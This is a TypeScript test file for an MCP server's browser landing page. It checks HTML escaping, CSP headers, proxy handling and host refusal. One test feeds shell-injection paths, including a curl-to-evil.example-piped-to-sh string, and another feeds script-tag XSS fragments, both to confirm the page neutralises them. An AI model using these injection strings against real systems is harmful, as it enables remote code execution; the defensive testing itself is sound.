import { expect, it } from 'vitest'
import { httpHandler } from '../../../src/http/index.ts'
import { createServer } from '../../../src/server/index.ts'
import { http, httpStream } from '../../support/http-requests.ts'
import { byHeader, openSession, serve, testServer } from '../../support/http-service.ts'

const BROWSER = 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8'
const open = (url: string, headers: Record<string, string> = {}): ReturnType<typeof http> =>
  http(url, { method: 'GET', isBare: true, headers: { accept: BROWSER, ...headers } })

it('tells a person in a browser what the endpoint is and how to connect', async () => {
  const { url } = await serve(testServer(), { authenticate: byHeader })
  const { status, text, headers } = await open(url)
  expect(status).toBe(200)
  expect(headers['content-type']).toBe('text/html; charset=utf-8')
  expect(text).toContain(`<pre>${url}</pre>`)
  expect(text).toContain('Callers must log in')
  const policy = String(headers['content-security-policy'])
  expect(policy).toMatch(/^default-src 'none'; style-src 'nonce-[\w-]+'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'$/)
  expect(text).toContain(`<style nonce="${/nonce-([\w-]+)/.exec(policy)?.[1]}">`)
  expect(text).not.toContain('<script')
})

it('escapes everything that a request or the author can put into the page', async () => {
  const server = createServer({ name: '<b>"notes" & more</b>', version: '1' })
  const handler = httpHandler(server, { allowedHosts: ['mcp.example.com'] })
  const answer = await handler.fetch(new Request(`https://mcp.example.com/mcp/"'%22><script>?x=<script>`, { headers: { accept: BROWSER } }))
  const text = await answer.text()
  expect(answer.status).toBe(200)
  expect(text).not.toContain('<b>')
  expect(text).not.toContain('<script')
  expect(text).toContain('https://mcp.example.com/mcp/')
  expect(text).toContain('&lt;b&gt;&quot;notes&quot; &amp; more&lt;/b&gt;')
})

it('shows no command for an address that a shell would not take as one word', async () => {
  const handler = httpHandler(testServer(), { allowedHosts: ['mcp.example.com'] })
  const textAt = async (path: string): Promise<string> =>
    (await handler.fetch(new Request(`https://mcp.example.com${path}`, { headers: { accept: BROWSER } }))).text()
  expect(await textAt('/mcp')).toContain('npx portico tools https://mcp.example.com/mcp<')
  for (const path of ["/mcp;curl$IFS'evil.example'|sh", '/mcp&&sh', '/$(sh)']) expect(await textAt(path)).not.toContain('npx portico')
})

it('names https behind a proxy that says so, and only if proxies are trusted', async () => {
  const trusting = await serve(testServer(), { trustProxy: true })
  const plain = await serve(testServer())
  expect((await open(trusting.url, { 'x-forwarded-proto': 'https' })).text).toContain('<pre>https://')
  expect((await open(plain.url, { 'x-forwarded-proto': 'https' })).text).toContain('<pre>http://')
})

it('changes nothing for clients of the protocol and for refused hosts', async () => {
  const { url } = await serve(testServer())
  const session = await openSession(url, '2025-11-25')
  const stream = await httpStream(url, { method: 'GET', isBare: true, headers: { accept: BROWSER, ...session.headers } })
  expect(stream.headers['content-type']).toBe('text/event-stream')
  stream.destroy()
  for (const accept of ['text/event-stream', '*/*', `${BROWSER}, text/event-stream`]) {
    expect((await open(url, { accept })).headers['content-type']).toBe('application/json')
  }
  expect((await open(url, { authorization: 'Bearer x' })).headers['content-type']).toBe('application/json')
  expect((await open(url, { host: 'evil.example' })).status).toBe(403)
  expect((await open(url.replace('/mcp', '/nothing'))).status).toBe(404)
  const silent = await serve(testServer(), { browserPage: false })
  expect((await open(silent.url)).status).toBe(400)
})
